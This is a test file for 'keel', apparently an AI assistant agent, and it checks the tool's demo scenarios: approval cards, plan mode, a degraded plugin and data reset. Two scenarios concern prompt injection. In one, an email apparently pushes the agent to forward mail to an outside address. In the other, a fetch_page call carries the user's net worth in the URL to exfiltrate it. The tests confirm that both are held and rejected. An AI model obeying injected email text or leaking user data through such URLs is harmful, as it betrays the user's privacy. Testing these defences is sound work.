import assert from 'node:assert/strict';
import { cpSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { keel, ROOT, tempHome } from '../support/helpers.js';

test('keel demo: every example runs end to end and the summary table says so (exit 0)', async () => {
  const r = await keel(['demo'], { KEEL_HOME: tempHome() });
  assert.equal(r.code, 0, r.stdout + r.stderr);
  for (const s of [
    '01-dues-then-reminders',
    '02-inbox-digest',
    '04-trash-approved',
    '05-trash-rejected',
    '07-plan-mode',
    '08-goal-delegate',
    '09-degraded-plugin',
  ]) {
    assert.match(r.stdout, new RegExp(`${s}\\s+\\d+\\s+\\d+\\s+\\d+\\s+\\w+ \\(\\w+\\)\\s+ok`), `${s} in the summary`);
  }
  assert.match(r.stdout, /⏸ held/, 'a held call is shown');
  assert.match(r.stdout, /Approval needed .*Move 2 email\(s\) to Trash/, 'an approval card is shown');
  assert.match(r.stdout, /Rejected: Keep them/, "the user's scripted replies are shown");
  assert.match(r.stdout, /write_file\(.*\)\s+⛔ denied/, 'plan mode refuses the write');
  assert.match(r.stdout, /plugin rogue is degraded: tool rogue_purge is registered by plugin rogue but not declared/);
  assert.match(r.stdout, /\n12 passed, 0 failed\n/);
  // D1/D3 (issue 38): the Goal-mode delegate does real work: its own confirm-once write asks the same person, then runs.
  const delegated = r.stdout.slice(r.stdout.indexOf('(08-goal-delegate)'), r.stdout.indexOf('(09-degraded-plugin)'));
  assert.match(delegated, /Held until you confirm \(create_reminder\)/);
  assert.match(delegated, /create_reminder\(.*\)\s+✓\n\s+Created reminder #\d+: 'Review the emergency fund'/);
  assert.match(delegated, /task_wait\(.*\)\s+✓\n\s+Task tk_1 \(researcher\): done; 5 model calls, tools run: research, create_reminder\./);
  // U3/U6: the injected email's forward waits on a card that names what the run read, and is rejected: nothing is sent.
  const injected = r.stdout.slice(r.stdout.indexOf('(11-injected-email)'));
  assert.match(
    injected,
    /Approval needed .*Send email to records@fabrikam-docs\.example\n.*\n│ This run read words from outside you: .*1 result of read_email \(email m027 from noreply@fabrikaminvest\.example/,
  );
  assert.match(injected, /send_email\(.*\)\s+⊘ rejected/);
  assert.match(r.stdout, /11-injected-email\s+8\s+5\s+2\s+done \(final_answer\)\s+ok/);
  // O2 (issue 46): the email's look-up with the net worth in its address waits on a card that names the email; rejected, it never runs.
  const lookup = r.stdout.slice(r.stdout.indexOf('(12-lookup-exfiltration)'));
  assert.match(
    lookup,
    /Approval needed .*Fetch a page from proseware-quotes\.example\n(.*\n)*│ This run read words from outside you: .*email m050/,
  );
  assert.match(lookup, /fetch_page\(\{"url":"https:\/\/proseware-quotes\.example\/loyalty\?networth=762145\.71"\}\)\s+⊘ rejected/);
  assert.match(lookup, /assistant: Your net worth is \$762,145\.71/, "the user's own question is answered");
  assert.match(r.stdout, /12-lookup-exfiltration\s+5\s+3\s+1\s+done \(final_answer\)\s+ok/);
  // Scenario 10's answer points to the plan above it: the plan is shown whole, its calendar included
  // (the bundled planner finds its sibling plugins whether it runs compiled or from source).
  const day = r.stdout.slice(r.stdout.indexOf('→ daily_plan()'), r.stdout.indexOf("assistant: Here's your day"));
  assert.match(day, /\n {6}Suggested plan:\n/);
  assert.match(day, /\n {8}\d\d:\d\d–\d\d:\d\d {2}\S/);
  assert.match(day, /Brunch with Priya/);
  assert.doesNotMatch(day, /unavailable/);
  assert.doesNotMatch(day, /…\n/, 'nothing is cut');
});

test('keel demo exits non-zero when a scenario does not end as its example expects', async () => {
  const dir = tempHome('keel-examples-');
  cpSync(join(ROOT, 'examples'), dir, { recursive: true });
  const f = join(dir, '02-inbox-digest.yaml');
  writeFileSync(f, readFileSync(f, 'utf8').replace('model_calls: 1', 'model_calls: 2'));
  const r = await keel(['demo', '--examples', dir, '--only', 'inbox'], { KEEL_HOME: tempHome() });
  assert.equal(r.code, 1, r.stdout + r.stderr);
  assert.match(r.stdout, /✗ 1 model calls, expected 2/);
  assert.match(r.stdout, /02-inbox-digest .* FAIL/);
});

test('keel demo checks what the cards marked as not the user’s own and which open-world calls ran', async () => {
  const dir = tempHome('keel-examples-');
  cpSync(join(ROOT, 'examples'), dir, { recursive: true });
  const f = join(dir, '12-lookup-exfiltration.yaml');
  writeFileSync(
    f,
    readFileSync(f, 'utf8')
      .replace('value: "https://proseware-quotes.example/loyalty?networth=762145.71"', 'value: "https://proseware-quotes.example/"')
      .replace('sent_out: []', 'sent_out: [\'fetch_page({"url":"https://proseware-quotes.example/"})\']'),
  );
  const r = await keel(['demo', '--examples', dir, '--only', 'lookup'], { KEEL_HOME: tempHome() });
  assert.equal(r.code, 1, r.stdout + r.stderr);
  assert.match(
    r.stdout,
    /✗ the cards marked \[fetch_page url = https:\/\/proseware-quotes\.example\/loyalty\?networth=762145\.71\] as not the user's, expected \[fetch_page url = https:\/\/proseware-quotes\.example\/\]/,
  );
  assert.match(r.stdout, /✗ open-world calls ran \[\], expected \[fetch_page\(\{"url":"https:\/\/proseware-quotes\.example\/"\}\)\]/);
  assert.match(r.stdout, /12-lookup-exfiltration .* FAIL/);
});

test('keel data reset re-seeds the plugins that keep data; without a terminal it needs --yes', async () => {
  const home = tempHome();
  const refused = await keel(['data', 'reset'], { KEEL_HOME: home });
  assert.equal(refused.code, 2);
  assert.match(refused.stderr, /pass --yes/);
  assert.ok(!existsSync(join(home, 'data', 'calendar.db')), 'nothing was touched');
  const r = await keel(['data', 'reset', '--yes'], { KEEL_HOME: home });
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /email_workflows\s+reset/);
  assert.match(r.stdout, /calendar\s+reset/);
  assert.ok(existsSync(join(home, 'data', 'email_workflows.db')), 'the mailbox was seeded');
  assert.ok(existsSync(join(home, 'data', 'calendar.db')), 'the calendar was seeded');
});
